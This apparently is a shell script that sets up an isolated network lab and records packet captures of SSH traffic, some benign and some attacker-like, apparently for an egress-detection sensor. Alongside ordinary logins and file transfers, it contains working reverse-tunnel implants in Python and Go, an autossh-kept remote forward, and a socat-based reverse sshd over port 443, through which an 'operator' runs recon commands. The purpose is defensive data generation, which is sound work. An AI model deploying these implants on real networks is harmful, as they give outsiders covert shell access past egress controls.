#!/bin/bash
# mkpcaps-trixie.sh - lab captures with Debian 13's SSH software (OpenSSH 10.0p1, paramiko, Go's
# golang.org/x/crypto/ssh) next to Debian 12's OpenSSH 9.2, the way the field runs them: servers
# with several host keys and clients that know one (UpdateHostKeys: hostkeys-00 /
# hostkeys-prove-00 after auth), ObscureKeystrokeTiming chaff, ControlMaster, -N -L, automation;
# asyncssh client and implant, autossh reconnects, a late -R, role inversion with the 10.0
# client, agent/X11 forwarding, scp/sftp/rsync/git and a long tmux session.
# Needs root and the trixie chroot of tools/lab-trixie-chroot.sh (made on first use, cached
# outside the repo); not part of `make test`.
#
#   tools/mkpcaps-trixie.sh            all captures below
#   tools/mkpcaps-trixie.sh NAME ...   only these (see $ALL)
#
# Runs its own lab (tools/lab.sh with LAB_PREFIX=tx-, LAB_RUN=/tmp/egress-lab-tx) with a longer
# WAN delay (LAB_DELAY_MS default 80: a 160 ms round trip, a far cluster), tcpdump on the
# router's outside veth.  Programs of the chroot run as `ip netns exec NS unshare --mount --uts
# $W/txrun CMD`: txrun bind-mounts /dev, /dev/pts, /proc, the work folder and the lab's private
# user database into the chroot inside that private mount namespace, so nothing leaks onto the
# host.  Everything is torn down in a trap, killing only the PIDs started here.
# Environment: OUT (default pcaps/), TRIXIE_DIR (chroot, default /var/cache/egress-sensor/trixie),
# KEEP_WORK=1, SSHD_LOGLEVEL=DEBUG3 (with KEEP_WORK=1: sshd logs every packet type).
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(dirname "$HERE")
OUT=${OUT:-$TOP/pcaps}
PY=/usr/bin/python3
SVC="$PY $HERE/labsvc.py"
export LAB_PREFIX=${LAB_PREFIX:-tx-}
export LAB_RUN=${LAB_RUN:-/tmp/egress-lab-tx}
export LAB_DELAY_MS=${LAB_DELAY_MS:-80}
# shellcheck source=tools/lab-common.sh
. "$(dirname "$0")/lab-common.sh"

lab_init mkpcaps-trixie "${LAB_PREFIX}mkpcaps"
CH=$("$HERE/lab-trixie-chroot.sh" ${TRIXIE_DIR:+"$TRIXIE_DIR"})
mkdir -p "$OUT"

# ---------------------------------------------------------------- chroot plumbing
# txrun [--host DIR NAME] CMD...: CMD inside the chroot (run under unshare --mount --uts)
mk_txrun() {
	cat >"$W/txrun" <<-EOF
	#!/bin/sh
	set -e
	C=$CH
	mount --make-rprivate /
	for d in dev dev/pts proc; do mount --bind /\$d \$C/\$d; done
	mount -t tmpfs tmpfs \$C/run
	mkdir -m 755 \$C/run/sshd
	mount -t tmpfs tmpfs \$C/tmp
	mkdir -p \$C$W
	mount --bind $W \$C$W
	for f in passwd shadow group; do mount --bind $W/etc/\$f \$C/etc/\$f; done
	if [ "\$1" = --host ]; then
		mount --bind \$2/hostname \$C/etc/hostname
		hostname \$3
		shift 3
	fi
	exec chroot \$C "\$@"
	EOF
	chmod 755 "$W/txrun"
}
TX=(unshare --mount --uts)

# Three host keys per server (ed25519, ecdsa, rsa 3072) as real servers have; clients know only
# the ed25519 one, so OpenSSH >= 6.8 clients run the UpdateHostKeys exchange after auth.
sshd_conf_extra() {
	ssh-keygen -q -t rsa -b 3072 -N '' -f "$d/ssh_host_rsa_key"
	echo "HostKey $d/ssh_host_rsa_key"
	echo "LogLevel ${SSHD_LOGLEVEL:-INFO}"
	echo "X11Forwarding yes"
}

ssh_setup_extra() {
	mkdir -p "$W/home/user/data"
	head -c 2500000 /dev/urandom >"$W/blob.bin"
	# tmux's socket in the lab user's home, not the host's /tmp
	echo 'export TMUX_TMPDIR=$HOME' >>"$W/home/user/.profile"
	# a small repository for git over SSH
	local r=$W/home/user/src
	git init -q -b main "$r"
	head -c 60000 /dev/urandom | base64 >"$r/model.py"
	printf 'lr: 0.001\nbatch: 64\n' >"$r/train.yaml"
	git -C "$r" add . && git -C "$r" -c user.name=dev -c user.email=dev@lab commit -qm init
	git clone -q --bare "$r" "$W/home/user/repo.git"
}

# outside: Debian 12's sshd 9.2 on 198.51.100.7:22, the chroot's sshd 10.0 on 198.51.100.8:22
outside_sshd92() {
	ssh_setup; mk_txrun_once
	if [ -z "${SSHD_PID_outside:-}" ]; then
		sshd_start outside bastion "198.51.100.7:22"
		wait_listen "$NS_O" 198.51.100.7:22
	fi
}
outside_sshd10() {
	ssh_setup; mk_txrun_once
	if [ -z "${SSHD10_PID:-}" ]; then
		local d=$W/sshd-outside10
		sshd_conf outside10 bastion10 "198.51.100.8:22"
		bg "$NS_O" "${TX[@]}" "$W/txrun" --host "$d" bastion10 \
		    /usr/sbin/sshd -D -e -f "$d/sshd_config" 2>"$d/sshd.log"
		SSHD10_PID=$LASTPID
		wait_listen "$NS_O" 198.51.100.8:22
	fi
}
train_sshd() {
	ssh_setup; mk_txrun_once
	if [ -z "${SSHD_PID_train:-}" ]; then
		sshd_start train gpu-node-07 "127.0.0.1:22; 10.20.0.10:22"
		wait_listen "$NS_T" 127.0.0.1:22
	fi
}
TXRUN_DONE=0
mk_txrun_once() { [ $TXRUN_DONE = 1 ] || { mk_txrun; TXRUN_DONE=1; }; }

# known_hosts NAME ADDR ROLE: a known_hosts file that holds only the ed25519 key of ADDR
known_hosts() {
	local f=$W/kh-$1
	echo "$2 $(cut -d' ' -f1,2 "$W/sshd-$3/ssh_host_ed25519_key.pub")" >"$f"
	echo "$f"
}

# ssh options of a client that knows one host key and keeps the others up to date
kopts() {
	KOPTS=(-F /dev/null -i "$W/keys/id_user" -o "UserKnownHostsFile=$1"
		-o StrictHostKeyChecking=yes -o UpdateHostKeys=yes -o LogLevel=ERROR)
}

RSHELL_LINES=(--line "id" --line "hostname" --line "uname -a" --line "ls -la ~"
	--line "cat /etc/os-release" --line "exit")
LOGIN_LINES=(--line "uptime" --line "ls -la" --line "cat notes.txt" --line "df -h /"
	--line "whoami" --line "exit")

# login NAME SEED CMD...: the inside user types LOGIN_LINES into CMD (in a pty)
login() {
	local name=$1 seed=$2
	shift 2
	cap_start "$name"
	ip netns exec "$NS_T" $SVC typer --seed "$seed" "${LOGIN_LINES[@]}" -- "$@" \
	    2>>"$W/typer.log"
	cap_stop
}

# operator TPORT SEED: the outside operator logs in through the tunnel with OpenSSH 10 and types
operator() {
	wait_listen "$NS_O" "127.0.0.1:$1"
	sleep 1.5
	ip netns exec "$NS_O" $SVC typer --seed "$2" "${RSHELL_LINES[@]}" -- \
	    "${TX[@]}" "$W/txrun" ssh "${SSH_OPTS[@]}" -tt -p "$1" user@127.0.0.1 2>>"$W/typer.log"
}

# ---------------------------------------------------------------- scenarios
do_ossh10_to_92() {
	outside_sshd92
	kopts "$(known_hosts 10to92 198.51.100.7 outside)"
	login ssh-ossh10-to-92-login 301 "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -tt user@198.51.100.7
}

do_ossh92_to_10() {
	outside_sshd10
	kopts "$(known_hosts 92to10 198.51.100.8 outside10)"
	login ssh-ossh92-to-10-login 302 ssh "${KOPTS[@]}" -tt user@198.51.100.8
}

# OpenSSH 10 implant: -N -R to the 10.0 server; the operator types through it (chaff included)
do_ossh10_rshell() {
	outside_sshd10
	train_sshd
	kopts "$(known_hosts rsh10 198.51.100.8 outside10)"
	cap_start ssh-ossh10-rshell
	bg "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -N -o BatchMode=yes \
	    -o ExitOnForwardFailure=yes -R 2210:localhost:22 user@198.51.100.8 </dev/null
	local imp=$LASTPID
	operator 2210 303
	sleep 2; stop "$imp"; cap_stop
}

# paramiko implant: asks for a remote forward and relays each forwarded channel to the inside
# sshd; the operator types through it
PARAMIKO_IMPLANT='
import paramiko, socket, sys, threading, select
k = paramiko.Ed25519Key.from_private_key_file(sys.argv[1])
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect(sys.argv[2], 22, "user", pkey=k, allow_agent=False, look_for_keys=False)
t = c.get_transport()
def pump(ch):
    s = socket.create_connection(("127.0.0.1", 22))
    while True:
        r, _, _ = select.select([s, ch], [], [])
        if s in r:
            d = s.recv(32768)
            if not d: break
            ch.sendall(d)
        if ch in r:
            d = ch.recv(32768)
            if not d: break
            s.sendall(d)
    ch.close(); s.close()
def handler(ch, origin, server):
    threading.Thread(target=pump, args=(ch,), daemon=True).start()
t.request_port_forward("127.0.0.1", int(sys.argv[3]), handler=handler)
while t.is_active():
    t.join(1)
'
do_paramiko_rshell() {
	outside_sshd92
	train_sshd
	echo "$PARAMIKO_IMPLANT" >"$W/implant.py"
	cap_start ssh-paramiko-rshell
	bg "$NS_T" "${TX[@]}" "$W/txrun" python3 "$W/implant.py" "$W/keys/id_user" 198.51.100.7 \
	    2211 </dev/null 2>"$W/paramiko.log"
	local imp=$LASTPID
	operator 2211 304
	sleep 2; stop "$imp"; cap_stop
}

GO_IMPLANT='package main

import (
	"io"
	"net"
	"os"

	"golang.org/x/crypto/ssh"
)

func main() {
	pem, _ := os.ReadFile(os.Args[1])
	signer, err := ssh.ParsePrivateKey(pem)
	if err != nil {
		panic(err)
	}
	cfg := &ssh.ClientConfig{User: "user", Auth: []ssh.AuthMethod{ssh.PublicKeys(signer)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey()}
	c, err := ssh.Dial("tcp", os.Args[2], cfg)
	if err != nil {
		panic(err)
	}
	l, err := c.Listen("tcp", "127.0.0.1:"+os.Args[3])
	if err != nil {
		panic(err)
	}
	for {
		r, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			s, err := net.Dial("tcp", "127.0.0.1:22")
			if err != nil {
				r.Close()
				return
			}
			go io.Copy(s, r)
			io.Copy(r, s)
			r.Close()
			s.Close()
		}()
	}
}
'
# Go implant built from Debian's golang-golang-x-crypto-dev sources (GOPATH mode, offline)
do_go_rshell() {
	outside_sshd92
	train_sshd
	mkdir -p "$W/go/src/implant"
	echo "$GO_IMPLANT" >"$W/go/src/implant/main.go"
	"${TX[@]}" "$W/txrun" env HOME="$W" GOCACHE="$W/gocache" GO111MODULE=off \
	    GOPATH="$W/go:/usr/share/gocode" GOFLAGS= GOTOOLCHAIN=local \
	    go build -o "$W/implant" implant >&2
	cap_start ssh-go-rshell
	bg "$NS_T" "${TX[@]}" "$W/txrun" "$W/implant" "$W/keys/id_user" 198.51.100.7:22 2212 \
	    </dev/null 2>"$W/go.log"
	local imp=$LASTPID
	operator 2212 305
	sleep 2; stop "$imp"; cap_stop
}

# ControlMaster: one connection, a typed session, two exec sessions and a second typed one
do_ossh10_controlmaster() {
	outside_sshd92
	kopts "$(known_hosts cm 198.51.100.7 outside)"
	local S=$W/cm.sock
	cap_start ssh-ossh10-controlmaster
	bg "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -M -S "$S" -N user@198.51.100.7 </dev/null
	local m=$LASTPID i=0
	until [ -S "$S" ]; do i=$((i + 1)); [ $i -lt 100 ] || exit 1; sleep 0.1; done
	ip netns exec "$NS_T" $SVC typer --seed 306 --line "uptime" --line "ls" --line "exit" -- \
	    "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" -tt user@198.51.100.7 2>>"$W/typer.log"
	sleep 1
	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" user@198.51.100.7 \
	    'hostname; uptime' >/dev/null
	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" user@198.51.100.7 \
	    'ls -la' >/dev/null
	sleep 1
	ip netns exec "$NS_T" $SVC typer --seed 307 --line "df -h /" --line "whoami" --line "exit" \
	    -- "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" -tt user@198.51.100.7 2>>"$W/typer.log"
	sleep 1; stop "$m"; cap_stop
}

# IDE-style: one master with -L 9000, a 2.5 MB upload through it, then typing from inside
do_ossh10_ide() {
	outside_sshd92
	kopts "$(known_hosts ide 198.51.100.7 outside)"
	local S=$W/ide.sock
	cap_start ssh-ossh10-ide
	bg "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -M -S "$S" -N -L 9000:127.0.0.1:9000 \
	    user@198.51.100.7 </dev/null
	local m=$LASTPID i=0
	until [ -S "$S" ]; do i=$((i + 1)); [ $i -lt 100 ] || exit 1; sleep 0.1; done
	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" user@198.51.100.7 \
	    'cat > data/blob.bin' <"$W/blob.bin"
	ip netns exec "$NS_T" $SVC typer --seed 308 --line "ls -la data" --line "python3 -V" \
	    --line "cat notes.txt" --line "exit" -- \
	    "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" -tt user@198.51.100.7 2>>"$W/typer.log"
	sleep 1; stop "$m"; cap_stop
}

# Jupyter through ssh -N -L: a notebook-like HTTP server outside, polled through the forward
do_ossh10_nL_jupyter() {
	outside_sshd92
	kopts "$(known_hosts nl 198.51.100.7 outside)"
	bg "$NS_O" $PY -m http.server --bind 127.0.0.1 8888 --directory "$W/home/user" \
	    >/dev/null 2>&1
	local web=$LASTPID
	wait_listen "$NS_O" 127.0.0.1:8888
	cap_start ssh-ossh10-nL-jupyter
	bg "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -N -L 8888:127.0.0.1:8888 \
	    user@198.51.100.7 </dev/null
	local m=$LASTPID
	wait_listen "$NS_T" 127.0.0.1:8888
	ip netns exec "$NS_T" $PY -c '
import time, urllib.request
for i in range(8):
    urllib.request.urlopen("http://127.0.0.1:8888/notes.txt").read()
    time.sleep(1.2 if i % 3 else 3)
'
	sleep 1; stop "$m"; stop "$web"; cap_stop
}

# automation: eight short exec sessions from the OpenSSH 10 client, one after the other
do_ossh10_automation() {
	outside_sshd92
	kopts "$(known_hosts auto 198.51.100.7 outside)"
	cap_start ssh-ossh10-automation
	local i
	for i in 1 2 3 4 5 6 7 8; do
		ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -T user@198.51.100.7 \
		    "hostname; cat notes.txt; nproc" >/dev/null
		sleep 0.3
	done
	cap_stop
}

# ---------------------------------------------------------------- more scenarios (asyncssh,
# autossh, late -R, role inversion, agent/X11, transfers, tmux)

# asyncssh client in a pty: raw mode, each key sent as it is typed (the typer drives it)
ASYNC_LOGIN='
import asyncio, asyncssh, os, sys, termios, tty
async def main():
    async with asyncssh.connect(sys.argv[2], username="user", client_keys=[sys.argv[1]],
                                known_hosts=None) as conn:
        proc = await conn.create_process(term_type="xterm", term_size=(120, 40),
                                         encoding=None)
        loop = asyncio.get_running_loop()
        old = termios.tcgetattr(0)
        tty.setraw(0)
        def rd():
            d = os.read(0, 1024)
            if d:
                proc.stdin.write(d)
        loop.add_reader(0, rd)
        try:
            while True:
                d = await proc.stdout.read(4096)
                if not d:
                    break
                os.write(1, d)
        finally:
            loop.remove_reader(0)
            termios.tcsetattr(0, termios.TCSADRAIN, old)
asyncio.run(main())
'
do_asyncssh_login() {
	outside_sshd92
	echo "$ASYNC_LOGIN" >"$W/alogin.py"
	login ssh-asyncssh-login 309 "${TX[@]}" "$W/txrun" python3 "$W/alogin.py" \
	    "$W/keys/id_user" 198.51.100.7
}

# asyncssh implant: forward_remote_port to the inside sshd; the operator types through it
ASYNC_IMPLANT='
import asyncio, asyncssh, sys
async def main():
    conn = await asyncssh.connect(sys.argv[2], username="user", client_keys=[sys.argv[1]],
                                  known_hosts=None)
    await conn.forward_remote_port("127.0.0.1", int(sys.argv[3]), "127.0.0.1", 22)
    await conn.wait_closed()
asyncio.run(main())
'
do_asyncssh_rshell() {
	outside_sshd92
	train_sshd
	echo "$ASYNC_IMPLANT" >"$W/aimplant.py"
	cap_start ssh-asyncssh-rshell
	bg "$NS_T" "${TX[@]}" "$W/txrun" python3 "$W/aimplant.py" "$W/keys/id_user" \
	    198.51.100.7 2213 </dev/null 2>"$W/asyncssh.log"
	local imp=$LASTPID
	operator 2213 310
	sleep 2; stop "$imp"; cap_stop
}

# the per-connection processes of the outside sshd 10.0 (its children): killing them drops
# the implant's connection the way a broken link or a server restart would
drop_sshd10_sessions() {
	local p
	for p in $(pgrep -P "$SSHD10_PID" || true); do kill "$p" 2>/dev/null || true; done
}

# autossh keeps an OpenSSH 10 -N -R up: the connection is dropped twice, autossh
# re-establishes it; the operator types through the second connection
do_autossh_reconnect() {
	outside_sshd10
	train_sshd
	kopts "$(known_hosts auto10 198.51.100.8 outside10)"
	cap_start ssh-autossh-reconnect
	bg "$NS_T" "${TX[@]}" "$W/txrun" env AUTOSSH_GATETIME=0 AUTOSSH_POLL=10 \
	    autossh -M 0 "${KOPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
	    -o ServerAliveInterval=5 -o ServerAliveCountMax=2 -R 2215:localhost:22 \
	    user@198.51.100.8 </dev/null 2>"$W/autossh.log"
	local imp=$LASTPID
	wait_listen "$NS_O" 127.0.0.1:2215
	sleep 4; drop_sshd10_sessions; sleep 1.5
	operator 2215 311
	sleep 2; drop_sshd10_sessions; sleep 1.5
	wait_listen "$NS_O" 127.0.0.1:2215
	sleep 4; stop "$imp"; cap_stop
}

# late -R: an inside user's interactive ControlMaster session; two minutes in, while a long
# command runs, `ssh -O forward -R` asks the master for a remote forward and the outside
# operator logs in through it and types
do_ossh10_late_rfwd() {
	outside_sshd92
	train_sshd
	kopts "$(known_hosts late 198.51.100.7 outside)"
	local S=$W/late.sock
	cap_start ssh-ossh10-late-rfwd
	ip netns exec "$NS_T" $SVC typer --seed 312 --timeout 400 --line "uptime" \
	    --line "ls -la" --line "sleep ${LATE_SLEEP:-170}; echo done" --line "exit" -- \
	    "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -M -S "$S" -tt user@198.51.100.7 \
	    2>>"$W/typer.log" &
	local typ=$!
	PIDS+=("$typ")
	sleep "${LATE_AT:-125}"
	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" -O forward \
	    -R 2214:localhost:22 user@198.51.100.7
	operator 2214 313
	wait "$typ"
	cap_stop
}

# role inversion: the outside operator's OpenSSH 10 client reaches an sshd -i that the inside
# connected out to (socat), through a one-shot listener as its ProxyCommand
PROXY_LISTEN='
import socket, sys, os, select
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind((sys.argv[1], int(sys.argv[2]))); l.listen(1)
c, _ = l.accept(); l.close()
while True:
    r, _, _ = select.select([0, c], [], [])
    if 0 in r:
        d = os.read(0, 32768)
        if not d: break
        c.sendall(d)
    if c in r:
        d = c.recv(32768)
        if not d: break
        os.write(1, d)
'
do_ossh10_role_inversion() {
	train_sshd
	local d=$W/sshd-train
	echo "$PROXY_LISTEN" >"$W/plisten.py"
	cap_start ssh-ossh10-role-inversion
	bg "$NS_O" $SVC typer --seed 314 "${RSHELL_LINES[@]}" -- \
	    "${TX[@]}" "$W/txrun" ssh "${SSH_OPTS[@]}" -tt -o HostKeyAlias=gpu-node-07 \
	    -o "ProxyCommand=python3 $W/plisten.py 198.51.100.8 443" user@gpu-node-07 \
	    2>>"$W/typer.log"
	local op=$LASTPID
	wait_listen "$NS_O" 198.51.100.8:443
	sleep 1
	bg "$NS_T" unshare --mount --uts /bin/sh -c "$(in_sshd_world "$d" gpu-node-07 \
	    "socat TCP:198.51.100.8:443 EXEC:'/usr/sbin/sshd -i -e -f $d/sshd_config'")" \
	    2>"$W/sshd-i.log"
	local imp=$LASTPID
	wait "$op"
	sleep 2
	stop "$imp"
	cap_stop
}

# agent forwarding and an X11 forwarding request in an ordinary typed session (10.0 client):
# the server opens auth-agent channels and the inside answers them
do_ossh10_agent_x11() {
	outside_sshd92
	kopts "$(known_hosts ax 198.51.100.7 outside)"
	local sock=$W/agent.sock
	ip netns exec "$NS_T" ssh-agent -a "$sock" >"$W/agent.env"
	local agent
	agent=$(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' "$W/agent.env")
	PIDS+=("$agent")
	SSH_AUTH_SOCK=$sock ssh-add -q "$W/keys/id_user"
	cap_start ssh-ossh10-agent-x11
	ip netns exec "$NS_T" env SSH_AUTH_SOCK="$sock" DISPLAY=:0 $SVC typer --seed 315 \
	    --line "ssh-add -l" --line 'echo $DISPLAY' --line "hostname" \
	    --line "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR 198.51.100.7 uptime" \
	    --line "exit" -- "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -A -X -tt user@198.51.100.7 \
	    2>>"$W/typer.log"
	cap_stop
	kill "$agent" 2>/dev/null || true
}

# file transfer with the OpenSSH 10 client: scp (SFTP protocol), sftp typed, rsync and git
do_ossh10_scp() {
	outside_sshd92
	kopts "$(known_hosts scp 198.51.100.7 outside)"
	head -c 400000 /dev/urandom >"$W/ckpt.bin"
	cap_start ssh-ossh10-scp
	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" scp "${KOPTS[@]}" "$W/ckpt.bin" \
	    user@198.51.100.7:data/ckpt.bin
	cap_stop
}
do_ossh10_sftp() {
	outside_sshd92
	kopts "$(known_hosts sftp 198.51.100.7 outside)"
	mkdir -p "$W/dl"
	cap_start ssh-ossh10-sftp
	ip netns exec "$NS_T" $SVC typer --seed 316 --prompt 'sftp> $' --line pwd --line "ls -l" \
	    --line "cd data" --line ls --line "cd .." --line "lcd $W/dl" --line "get notes.txt" \
	    --line bye -- "${TX[@]}" "$W/txrun" sftp "${KOPTS[@]}" user@198.51.100.7 \
	    2>>"$W/typer.log"
	cap_stop
}
do_ossh10_rsync() {
	outside_sshd92
	kopts "$(known_hosts rsync 198.51.100.7 outside)"
	local t=$W/tree i
	mkdir -p "$t/conf"
	for i in 1 2 3 4 5; do head -c $((i * 9000)) /dev/urandom | base64 >"$t/mod$i.py"; done
	for i in a b c; do printf 'lr: 0.0%s\nbatch: 64\n' "$i" >"$t/conf/$i.yaml"; done
	cap_start ssh-ossh10-rsync
	ip netns exec "$NS_T" rsync -a -e "${TX[*]} $W/txrun ssh ${KOPTS[*]}" "$t/" \
	    user@198.51.100.7:data/tree/
	cap_stop
}
do_ossh10_git() {
	outside_sshd92
	kopts "$(known_hosts git 198.51.100.7 outside)"
	local g="${TX[*]} $W/txrun ssh ${KOPTS[*]}"
	cap_start ssh-ossh10-git
	ip netns exec "$NS_T" env GIT_SSH_COMMAND="$g" git clone -q \
	    user@198.51.100.7:repo.git "$W/clone"
	sleep 1
	(cd "$W/clone" && echo "epochs: 3" >train.yaml && git add train.yaml &&
	    git -c user.name=dev -c user.email=dev@lab commit -qm "epochs" &&
	    ip netns exec "$NS_T" env GIT_SSH_COMMAND="$g" git push -q origin HEAD)
	cap_stop
}

# a long tmux session with idle gaps (real time, no time shift)
do_ossh10_tmux() {
	outside_sshd92
	kopts "$(known_hosts tmux 198.51.100.7 outside)"
	cap_start ssh-ossh10-tmux
	ip netns exec "$NS_T" env TERM=xterm $SVC typer --seed 317 --prompt '\$ ' --timeout 60 \
	    --pause "${TMUX_GAP_MIN:-20}" "${TMUX_GAP_MAX:-60}" --line "tmux new -s work" \
	    --line "uptime" --line "ls -la" --line "cat notes.txt" --line "exit" --line "exit" -- \
	    "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -tt user@198.51.100.7 2>>"$W/typer.log"
	cap_stop
}

# ---------------------------------------------------------------- main
ALL="ssh-ossh10-to-92-login ssh-ossh92-to-10-login ssh-ossh10-rshell ssh-paramiko-rshell
ssh-go-rshell ssh-ossh10-controlmaster ssh-ossh10-nL-jupyter ssh-ossh10-ide
ssh-ossh10-automation ssh-asyncssh-login ssh-asyncssh-rshell ssh-autossh-reconnect
ssh-ossh10-late-rfwd ssh-ossh10-role-inversion ssh-ossh10-agent-x11 ssh-ossh10-scp
ssh-ossh10-sftp ssh-ossh10-rsync ssh-ossh10-git ssh-ossh10-tmux"
WANT=${*:-$ALL}

for n in $WANT; do
	need_lab
	case $n in
	ssh-ossh10-to-92-login) do_ossh10_to_92 ;;
	ssh-ossh92-to-10-login) do_ossh92_to_10 ;;
	ssh-ossh10-rshell) do_ossh10_rshell ;;
	ssh-paramiko-rshell) do_paramiko_rshell ;;
	ssh-go-rshell) do_go_rshell ;;
	ssh-ossh10-controlmaster) do_ossh10_controlmaster ;;
	ssh-ossh10-nL-jupyter) do_ossh10_nL_jupyter ;;
	ssh-ossh10-ide) do_ossh10_ide ;;
	ssh-ossh10-automation) do_ossh10_automation ;;
	ssh-asyncssh-login) do_asyncssh_login ;;
	ssh-asyncssh-rshell) do_asyncssh_rshell ;;
	ssh-autossh-reconnect) do_autossh_reconnect ;;
	ssh-ossh10-late-rfwd) do_ossh10_late_rfwd ;;
	ssh-ossh10-role-inversion) do_ossh10_role_inversion ;;
	ssh-ossh10-agent-x11) do_ossh10_agent_x11 ;;
	ssh-ossh10-scp) do_ossh10_scp ;;
	ssh-ossh10-sftp) do_ossh10_sftp ;;
	ssh-ossh10-rsync) do_ossh10_rsync ;;
	ssh-ossh10-git) do_ossh10_git ;;
	ssh-ossh10-tmux) do_ossh10_tmux ;;
	*) log "unknown capture: $n"; exit 2 ;;
	esac
done
log "done"
